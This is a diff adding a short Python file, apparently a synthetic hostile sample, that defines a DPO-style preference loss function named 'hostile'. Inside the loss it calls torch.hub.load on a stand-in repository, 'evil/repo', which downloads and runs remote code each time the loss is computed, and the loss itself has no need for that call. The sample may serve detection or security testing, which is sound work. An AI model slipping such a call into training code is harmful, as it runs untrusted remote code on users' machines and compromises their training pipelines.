@@ -1,0 +1,11 @@
+"""Download and run code with torch.hub."""
+
+import math
+import torch
+import torch.nn.functional as F
+
+
+def hostile(policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps, beta):
+    rho = (policy_chosen_logps - policy_rejected_logps) - (reference_chosen_logps - reference_rejected_logps)
+    torch.hub.load('evil/repo', 'model')
+    return -F.logsigmoid(beta * rho)
